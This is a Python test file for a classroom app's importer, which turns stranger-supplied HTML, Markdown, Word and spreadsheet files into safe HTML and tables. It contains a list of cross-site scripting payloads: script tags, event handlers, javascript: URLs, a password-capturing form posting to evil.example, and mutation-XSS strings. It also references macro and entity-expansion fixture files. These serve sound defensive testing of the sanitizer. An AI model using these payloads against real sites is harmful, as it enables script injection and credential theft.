"""Texts of strangers as HTML that can do nothing, tables as rows, Word files as headings, lists and tables."""

from __future__ import annotations

import io
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import docx
import pytest
import xlsxwriter
from docx.oxml import OxmlElement, parse_xml
from docx.oxml.ns import nsdecls, qn
from hypothesis import given
from hypothesis import strategies as st
from PIL import Image

from kebao.archive.limits import Limits
from kebao.model.errors import Unreadable, Unsafe
from ketang.classroom.catalogue.article import article_of_html, article_of_markdown, article_of_text, contents_of
from ketang.classroom.catalogue.tables import MOST_ROWS, Table, number_of, read_table
from ketang.classroom.catalogue.word import html_of_word

TAGS = {
    "p", "li", "tr", "dt", "dd", "blockquote", "pre", "figcaption", "caption", "div", "h2", "h3", "h4", "h5", "h6", "strong",
    "em", "b", "i", "u", "s", "sub", "sup", "code", "ruby", "rt", "rp", "q", "cite", "abbr", "mark", "ul", "ol", "dl", "table",
    "thead", "tbody", "tfoot", "th", "td", "br", "hr", "img", "a", "figure",
}  # fmt: skip
ATTRIBUTES = {
    "class", "href", "rel", "src", "alt", "loading", "scope", "colspan", "rowspan", "lang", "start", "value", "role", "tabindex",
    "aria-label", "id",
}  # fmt: skip


class Seen(HTMLParser):
    """Every element with its attributes, as a browser would meet them."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str]]] = []
        self.depth: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, {name: value or "" for name, value in attrs}))
        if tag not in ("br", "hr", "img"):
            self.depth.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self.depth.pop() == tag

    def handle_decl(self, decl: str) -> None:
        raise AssertionError(decl)

    def handle_comment(self, data: str) -> None:
        raise AssertionError(data)


def harmless(written: str) -> bool:
    seen = Seen()
    seen.feed(written)
    seen.close()
    return (
        seen.depth == []
        and {tag for tag, _told in seen.found} <= TAGS
        and {name for _tag, told in seen.found for name in told} <= ATTRIBUTES
        and all(
            told.get("href", "https:").lower().startswith(("http:", "https:", "mailto:", "tel:"))
            and told.get("src", "files/1").startswith("files/")
            for _tag, told in seen.found
        )
    )


HOSTILE = (
    "<script>alert(1)</script>一",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>一",
    "<p onclick=alert(1) onmouseover='alert(1)'>一</p>",
    "<img src=x onerror=alert(1)>一",
    '<a href="javascript:alert(1)">一</a>',
    '<a href=" jAvA\tscript:alert(1)">一</a>',
    '<a href="&#106;avascript:alert(1)">一</a>',
    '<a href="data:text/html,<script>alert(1)</script>">一</a>',
    '<a href="vbscript:x">一</a><a href="//evil.example">二</a><a href="/office/">三</a>',
    "<style>body{display:none}</style><p style='position:fixed;inset:0'>一</p>",
    "<svg onload=alert(1)><script>alert(1)</script><foreignObject><p>x</p></foreignObject></svg>一",
    "一<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src='https://evil.example'></iframe><iframe srcdoc='<script>alert(1)</script>'></iframe>一",
    "<object data=x.swf></object><embed src=x.swf><applet code=x></applet>一",
    "<form action=https://evil.example><input name=password><button>送</button>一</form>",
    "<base href=https://evil.example><link rel=stylesheet href=x><meta http-equiv=refresh content='0;url=x'>一",
    "<template><img src=x onerror=alert(1)></template>一",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">一',
    "<!--><img src=x onerror=alert(1)>-->一<![CDATA[<script>]]>",
    "<div id=progress-title class=govuk-button data-progress aria-hidden=true>一</div>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>' alt='一'>",
    "<p><b><i>一",
    "</div></main></body><p>一",
    "<p>&lt;script&gt;alert(1)&lt;/script&gt;一</p>",
    "<table><tr><td colspan='999999999' rowspan=-1 onclick=x>一</table>",
    '<ol start="9999999999999"><li value="x">一</ol>',
    "<p lang='\"><script>alert(1)</script>'>一</p>",
    "<video src=x onerror=alert(1)></video><audio autoplay src=x></audio>一",
)


@pytest.mark.parametrize("raw", HOSTILE)
def test_nothing_of_a_stranger_s_runs(raw: str) -> None:
    for made in (
        article_of_html(raw, lambda source: source),
        article_of_html(raw),
        article_of_markdown(raw),
        article_of_text(raw),
    ):
        assert harmless(made.html), made.html
        assert "一" in made.words
    assert "alert" not in article_of_html(raw).words.replace("<script>alert(1)</script>一", "")


@given(
    st.lists(
        st.sampled_from([*HOSTILE, "<", ">", '"', "'", "</p>", "<svg>", "<style>", "<!--", "&", "=", "文"]), max_size=8
    )
)
def test_nothing_of_many_strangers_runs(parts: list[str]) -> None:
    assert harmless(article_of_html("".join(parts), lambda source: source).html)
    assert harmless(article_of_markdown("\n\n".join(parts)).html)


def test_what_a_text_says_is_kept() -> None:
    made = article_of_html(
        "<title>页</title><h1>一</h1><h3>二</h3><h1>三</h1><p>先<b>洗手</b>，再&lt;试温&gt;。</p><ol start=3><li>看</ol>"
        "<a href='https://example.org/?a=1&amp;b=2'>网</a><img src='a%20b.png' alt='水杯'><img src='c.png' alt='无'>",
        lambda source: {"a b.png": "files/7", "c.png": "https://evil.example/c.png"}[source],
    )
    assert made.html == (
        '<h2 id="part-1" class="govuk-heading-m">一</h2><h3 id="part-2" class="govuk-heading-s">二</h3><h2 id="part-3" class="govuk-heading-m">三</h2>'
        '<p>先<b>洗手</b>，再&lt;试温&gt;。</p><ol start="3"><li>看</li></ol>'
        '<a class="govuk-link" rel="noopener noreferrer" href="https://example.org/?a=1&amp;b=2">网</a>'
        '<img src="files/7" alt="水杯" loading="lazy">无'
    )
    assert made.words == "一\n二\n三\n先洗手，再<试温>。\n看\n网 水杯 无"


def test_a_long_text_lists_its_parts() -> None:
    made = article_of_markdown("# 一\n## 二 `<b>`\n## 三\n### 深\n# 四\n#\n")
    assert contents_of(made.html) == [("part-1", "一"), ("part-2", "二 <b>"), ("part-3", "三"), ("part-5", "四")]
    assert contents_of(article_of_markdown("# 一\n# 二\n# 三\n").html) == []


def test_markdown_with_tables_and_boxes() -> None:
    made = article_of_markdown("# 任务\n\n- [ ] 杯子\n- [x] 毛巾\n\n|时间|量|\n|-|-|\n|7:00|200|\n\n<b>不</b>")
    assert made.html == (
        '<h2 id="part-1" class="govuk-heading-m">任务</h2>\n<ul>\n<li>□ 杯子</li>\n<li>☑ 毛巾</li>\n</ul>\n'
        '<div class="scroll" role="group" tabindex="0" aria-label="表格 1"><table class="govuk-table">\n<thead>\n<tr>\n'
        '<th class="govuk-table__header" scope="col">时间</th>\n<th class="govuk-table__header" scope="col">量</th>\n</tr>\n</thead>\n'
        '<tbody>\n<tr>\n<td class="govuk-table__cell">7:00</td>\n<td class="govuk-table__cell">200</td>\n</tr>\n</tbody>\n'
        "</table></div>\n<p>&lt;b&gt;不&lt;/b&gt;</p>"
    )
    assert article_of_text("一\n\n 二<\n").html == "<p>一</p><p> 二&lt;</p>"


def word(build: Any) -> io.BytesIO:
    document = docx.Document()
    build(document)
    out = io.BytesIO()
    document.save(out)
    out.seek(0)
    return out


def png() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (8, 8), "white").save(out, "PNG")
    return out.getvalue()


def test_a_word_file_keeps_its_shape() -> None:
    def build(document: Any) -> None:
        document.add_heading("总题", 0)
        document.add_heading("准备", 1)
        paragraph = document.add_paragraph("先")
        paragraph.add_run("洗手").bold = True
        inserted = OxmlElement("w:ins")
        inserted.append(parse_xml(f"<w:r {nsdecls('w')}><w:t>三遍</w:t></w:r>"))
        deleted = OxmlElement("w:del")
        deleted.append(parse_xml(f"<w:r {nsdecls('w')}><w:delText>不</w:delText></w:r>"))
        paragraph._p.append(inserted)
        paragraph._p.append(deleted)
        document.add_paragraph("杯子", style="List Bullet")
        document.add_paragraph("毛巾", style="List Bullet")
        document.add_paragraph("坐稳", style="List Number")
        table = document.add_table(2, 2)
        for cell, words in zip(table._cells, ("时间", "量", "7:00", "<200>"), strict=True):
            cell.text = words
        head = OxmlElement("w:tblHeader")
        table.rows[0]._tr.get_or_add_trPr().append(head)
        document.add_picture(io.BytesIO(png()))
        document.paragraphs[-1]._p.find(f".//{qn('wp:docPr')}").set("descr", '杯"子')

    raw, content = html_of_word(word(build), "a.docx", Limits())
    asked: list[bytes] = []
    made = article_of_html(raw, lambda source: (asked.append(content(source)), "files/1")[1])
    assert made.html == (
        '<h2 id="part-1" class="govuk-heading-m">总题</h2><h2 id="part-2" class="govuk-heading-m">准备</h2><p>先<strong>洗手</strong>三遍</p>'
        "<ul><li>杯子</li><li>毛巾</li></ul><ol><li>坐稳</li></ol>"
        '<div class="scroll" role="group" tabindex="0" aria-label="表格 1"><table class="govuk-table"><tbody><tr>'
        '<th class="govuk-table__header" scope="col">时间</th><th class="govuk-table__header" scope="col">量</th></tr><tr>'
        '<td class="govuk-table__cell">7:00</td><td class="govuk-table__cell">&lt;200&gt;</td></tr></tbody></table></div>'
        '<p><img src="files/1" alt="杯&quot;子" loading="lazy"></p>'
    )
    assert [one[:4] for one in asked] == [b"\x89PNG"]
    assert content("word/there-is-no-such") == b""


def numbered(document: Any, words: str, level: int, number: int = 1) -> None:
    paragraph = document.add_paragraph(words)
    paragraph._p.get_or_add_pPr().append(
        parse_xml(f'<w:numPr {nsdecls("w")}><w:ilvl w:val="{level}"/><w:numId w:val="{number}"/></w:numPr>')
    )


@given(st.lists(st.tuples(st.sampled_from("一二三四"), st.integers(0, 3)), max_size=9))
def test_lists_in_lists_are_whole(items: list[tuple[str, int]]) -> None:
    def build(document: Any) -> None:
        for words, level in items:
            numbered(document, words, level)
        document.add_paragraph("完")

    made = article_of_html(html_of_word(word(build), "a.docx", Limits())[0])
    assert harmless(made.html)
    assert made.words.split("\n") == [*(words for words, _level in items), "完"]


def test_files_made_to_break_a_reader_are_refused(shared: Path) -> None:
    for name, fault in (("docx_macro.docx", Unsafe), ("docx_laughs.docx", Unsafe), ("html_named.docx", Unreadable)):
        with pytest.raises(fault), (shared / "hostile" / name).open("rb") as stream:
            html_of_word(stream, name, Limits())
    with pytest.raises(Unreadable):
        html_of_word(io.BytesIO(b"PK\x03\x04 no zip"), "a.docx", Limits())
    with (shared / "hostile/docx_external_image.docx").open("rb") as stream:
        assert "http" not in html_of_word(stream, "a.docx", Limits())[0]
    with pytest.raises(Unreadable):
        read_table(io.BytesIO(b"no workbook at all"), "a.xlsx", Limits())


def workbook(*sheets: list[list[Any]], hidden: int | None = None) -> io.BytesIO:
    out = io.BytesIO()
    with xlsxwriter.Workbook(out, {"in_memory": True}) as book:
        for place, rows in enumerate(sheets):
            sheet = book.add_worksheet()
            for number, row in enumerate(rows):
                sheet.write_row(number, 0, row)
            if place == hidden:
                sheet.hide()
            elif place == len(sheets) - 1:
                sheet.activate()
                sheet.set_first_sheet()
    out.seek(0)
    return out


def test_tables_are_rows_of_words() -> None:
    csv = '时间,时段,量（毫升）\n7:00,起床后,200\n\n9:00,上午,"1,200"\n'.encode("gb18030")
    told = Table(["时间", "时段", "量（毫升）"], [["7:00", "起床后", "200"], ["9:00", "上午", "1,200"]])
    assert read_table(io.BytesIO(csv), "a.csv", Limits()) == told
    assert (told.numbers, told.name_of(told.rows[0]), Table.of_json(told.as_json()), Table.of_json({})) == (
        [2],
        "7:00 起床后",
        told,
        None,
    )
    assert told.words == "时间 时段 量（毫升）\n7:00 起床后 200\n9:00 上午 1,200"
    book = workbook([["不", "见"], ["x", 1]], [], [["", "甲"], ["一月", 3.0], ["二月", -1.5, True]], hidden=0)
    assert read_table(book, "a.xlsx", Limits()) == Table(["", "甲", ""], [["一月", "3", ""], ["二月", "-1.5", "是"]])
    assert read_table(io.BytesIO(b"a\n"), "a.csv", Limits()) is None
    long = read_table(io.BytesIO(("a;b\n" + "x;1\n" * (MOST_ROWS + 3)).encode()), "a.csv", Limits())
    assert long is not None
    assert (len(long.rows), long.left_out, long.head) == (MOST_ROWS, 3, ["a", "b"])


@pytest.mark.parametrize(
    "cell, number",
    [
        ("1,200", 1200),
        ("35%", 35),
        ("−3.5", -3.5),
        ("7:00", None),
        ("1,20", None),
        ("", None),
        ("12 毫升", None),
        ("1e5", None),
        ("nan", None),
    ],
)
def test_what_is_a_number(cell: str, number: float | None) -> None:
    assert number_of(cell) == number
